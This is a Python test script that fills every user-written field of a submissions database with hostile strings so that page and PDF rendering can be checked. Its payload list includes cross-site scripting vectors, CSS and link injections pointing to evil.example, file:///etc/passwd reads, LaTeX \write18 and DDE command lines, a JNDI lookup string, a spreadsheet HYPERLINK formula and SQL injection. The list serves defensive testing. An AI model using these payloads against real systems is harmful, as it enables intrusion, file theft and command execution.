#!/usr/bin/python3
"""Puts hostile text into every field that a person can write, of every row in a database that has tests/reports/data.sql.

Usage: hostile.py [--few N] [--also FILE.json|FILE.txt]... DATABASE_URL FIELDS.json

Each field gets all of the texts below, or N of them in turn, between marks of its own; FIELDS.json says which field got
what, for check_page.py. --also adds texts: a JSON list of strings, or a file with one a line.
"""
import argparse
import json
import subprocess

WIDE = "Überschreitung" * 40  # a word that is wider than any page
TEXTS = [
    # markup of pages
    "<script>alert(1)</script>", "</p></div></main></body></html><h1>afterwards</h1>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext></mtext><mglyph><style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>*{display:none}</style>", "--><!-- <![CDATA[ ]]> <?xml version='1.0'?>",
    "&lt;b&gt; &amp; &#60;i&#62; &nbsp; &#x3c;", "</title></style></textarea></noscript><script>alert(1)</script>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content=0>",
    # out of attributes, and into style sheets
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "` x=`", "\"><b id=\"main\">", "x\" style=\"position:fixed",
    "}; body { background: url(https://evil.example/) } @import 'https://evil.example/'; \\3c\\73", "expression(alert(1))",
    # addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
    "\\\\evil.example\\share\\x", "//evil.example/x", "https://evil.example/\"onclick=\"alert(1)", "http://[::1]:99999/%00%0a%ZZ",
    # what converters read
    "# not a heading", "**not bold** _not italic_ `not code` ~~not struck~~ ^up^ ~down~", "[words](https://evil.example \"title\")",
    "![picture](file:///etc/passwd){width=100%}", "[@citation] [^1] [^1]: note", "$x^2$ $$\\int$$ \\(x\\) \\[x\\]",
    "`<w:p/>`{=openxml} `\\input{/etc/passwd}`{=latex} `<b>`{=html}", "::: {.hidden} ::: --- ... === ***", "| a | b | |---|---|",
    "1. one 2) two - three * four + five (@) six", "\\input{/etc/passwd} \\write18{id} \\begin{document} \\def\\x{\\x} % # $ ~ ^ {",
    "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r></w:p>", "{ INCLUDETEXT \"file:///etc/passwd\" } { HYPERLINK \"javascript:1\" }",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "{{template}} {% raw %} ${jndi:ldap://evil.example} #{x} <%= x %> %s %n %p",
    "=HYPERLINK(\"http://evil.example\",\"click\")", "+1 -1 @SUM(A1)", "'; DROP TABLE submission; --", "\\u0000 \\ud800 \\x00 %00 &#0;",
    # characters
    "\u0001\u0002\u0008\u000b\u000c\u000e\u001b[31m\u001f\u007f", "\u0080\u0085\u009b\u009f", "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff",
    "\ufeff\u200b\u200c\u200d\u2060\u00ad\u034f\u180e\u2028x\u2029x", "\ufffd\ufffc\ufff9\ufffa\ufffb", "\ue000\U000f0000\U000e0001\U000e0041",
    "\u202ereversed", "\u202a\u202b\u202d deep \u202a\u202b", "\u2066\u2067\u2068 open", "\u2069\u2069\u202c\u202c closed", "\u200e\u200f\u061c",
    "Z\u0351\u036b\u0343" + "\u0300\u0323\u0334\u0489" * 40 + "algo", "\u0e33" * 20, "\u0f39" * 30, "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f \U0001f1f0\U0001f1ec",
    "مرحبا hello שלום 123 (a) [b]", "汉字" * 60, "ทดสอบ" * 30, "ক্ষ ത്ര क्ष 한국어 ᠮᠣᠩᠭᠣᠯ ကြ ꦏ", "ﷺ﷽𒐫𒈙⸻꧅", WIDE, "a" * 700, "W" * 300,
    "https://example.org/" + "very-long-path/" * 30, "\u00a0\u2003\u3000blanks\u00a0\u2003", "one\n\n\n\n\ntwo\r\n\tthree\rfour",
    "\N{LATIN SMALL LIGATURE FFI}\N{KELVIN SIGN}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}\N{LATIN SMALL LETTER DOTLESS I}ßẞ", "0/0 NaN 1e309 -0 ∞ ½",
]
# Fonts of a hundred thousand glyphs, which cost a PDF as many seconds as all else: only where every field gets every text.
EAST = ["汉字" * 60, "漢字かな交じり文。" * 20, "한국어", "ﷺ﷽𒐫𒈙⸻꧅"]
LONG = "vielleicht" * 4000  # a paragraph of 40,000 characters without a blank

# What people write, as it stands in the tables. Beside these, a submission holds only codes of closed lists.
WORDS_OF_SUBMISSION = ("admin1", "title", "body", "upr_recommendations")
WORDS_WITHIN = {
    "observations": ("figure", "unit", "breakdown", "method"),
    "evidence": ("citation", "url", "where", "when", "how", "by_whom"),
    "recommendations": ("text", "addressee"),
}
WORDS_OF_CONTENT = ("signatory", "role", "section", "comment_on", "title", "body")
# Whether a submission has one, and which section it is for, decide where it stands.
TABLES = {"organisation": ("id",), "call": ("id",), "claim": ("country", "call", "code"), "submission": ("country", "id")}


class Writer:
    """Gives each field its texts and keeps what it gave."""

    def __init__(self, texts, few):
        self.texts, self.few, self.turn, self.fields = texts, few, 0, []

    def next_texts(self):
        if not self.few:
            return self.texts
        chosen = [self.texts[(self.turn + i) % len(self.texts)] for i in range(self.few)]
        self.turn += self.few
        return chosen

    def write(self, name, before="", after=""):
        number = len(self.fields)
        begin, end = f"Xb{number:04d}b", f"Xe{number:04d}e"
        text = begin + " " + before + " ".join(self.next_texts()) + after + " " + end
        self.fields.append({"name": name, "begin": begin, "text": text})
        return text


def write_within(writer, name, items, keys):
    for item in items or []:
        for key in keys:
            if key == "url" and item.get(key, "").startswith("https:"):
                item[key] = writer.write(f"{name}.{key}", before="").replace("Xb", "https://example.org/Xb", 1)
            elif key in item:
                item[key] = writer.write(f"{name}.{key}")


def write_submission(writer, row):
    name = f"submission.{row['kind'].lower()}" + ("" if row["consent"] in ("PUBLIC", "ANONYMOUS") else ".hidden")
    for key in WORDS_OF_SUBMISSION:
        if isinstance(row[key], list):
            row[key] = [writer.write(f"{name}.{key}") for _ in row[key]]
        elif row[key] is not None:
            row[key] = writer.write(f"{name}.{key}")
    for key, keys in WORDS_WITHIN.items():
        write_within(writer, f"{name}.{key}", row[key], keys)
    content = row["content"] or {}
    for key in WORDS_OF_CONTENT:
        if key in content and not (key == "section" and content[key].startswith("S")):
            content[key] = writer.write(f"{name}.content.{key}")
    for answer in content.get("answers", []):
        if answer["question"] == "Q1" or answer["body"].startswith("what else"):
            answer["body"] = writer.write(f"{name}.answers")


def write_words(writer, name, words):
    for language in words:
        words[language] = writer.write(f"{name}.{language}" if language == "en" else f"{name}.other")


def write_content(writer, name, node):
    """Words by language are objects whose keys are languages; ids, codes and numbers stay."""
    for key, value in node.items() if isinstance(node, dict) else enumerate(node):
        if isinstance(value, dict) and value and all(len(k) == 2 for k in value):
            write_words(writer, f"{name}.{key}", value)
        elif isinstance(value, (dict, list)):
            write_content(writer, f"{name}.{key}" if isinstance(key, str) else name, value)


def write_row(writer, table, row):
    if table == "submission":
        write_submission(writer, row)
    elif table == "organisation":
        write_words(writer, "organisation.name", row["name"])
    elif table == "call":
        write_words(writer, "call.title", row["title"])
        write_content(writer, "call.content", row["content"])
    else:
        for key in ("statement", "source", "page"):
            row[key] = writer.write(f"claim.{key}")


def psql(url, sql):
    done = subprocess.run(["psql", "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-d", url], input=sql.encode(),
                          stdout=subprocess.PIPE, check=True)
    return done.stdout.decode()


def quote(text):
    return "'" + text.replace("'", "''") + "'"


def update(table, row):
    """A statement that puts the whole row back. Columns keep their types by way of the table's own row type."""
    keys = " AND ".join(f"t.{key}::text = {quote(row[key])}" for key in TABLES[table])
    changed = {"submission": WORDS_OF_SUBMISSION + tuple(WORDS_WITHIN) + ("content",), "organisation": ("name",),
               "call": ("title", "content"), "claim": ("statement", "source", "page")}[table]
    columns = ", ".join(f"{column} = n.{column}" for column in changed)
    return f"UPDATE {table} t SET {columns} FROM jsonb_populate_record(NULL::{table}, {quote(json.dumps(row))}) n WHERE {keys};\n"


def read_more(path):
    with open(path, encoding="utf-8") as file:
        texts = json.load(file) if path.endswith(".json") else file.read().splitlines()
    # PostgreSQL's text has no NUL: no way leads it there, so no report can meet one.
    return [text.replace("\0", "") for text in texts if text.strip()]


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--few", type=int, default=0)
    parser.add_argument("--also", action="append", default=[])
    parser.add_argument("url")
    parser.add_argument("fields")
    options = parser.parse_args()
    texts = TEXTS + ([] if options.few else EAST) + [text for path in options.also for text in read_more(path)]
    writer = Writer(texts, options.few)
    sql = ["SET standard_conforming_strings = on; BEGIN;\n"]
    for table in TABLES:
        rows = psql(options.url, f"SELECT to_jsonb(t) FROM {table} t ORDER BY {', '.join(TABLES[table])}").splitlines()
        for row in map(json.loads, rows):
            write_row(writer, table, row)
            if row.get("kind") == "FINDING" and row["goal"] == 5 and row["call"] == "REPORTS-2026":
                row["body"] = writer.write("submission.finding.body", after=" " + LONG)
            sql.append(update(table, row))
    sql.append("COMMIT;\n")
    psql(options.url, "".join(sql))
    for field in writer.fields:
        field["text"] = field["text"].strip()
    with open(options.fields, "w", encoding="utf-8") as file:
        json.dump(writer.fields, file, ensure_ascii=True, indent=1)


if __name__ == "__main__":
    main()
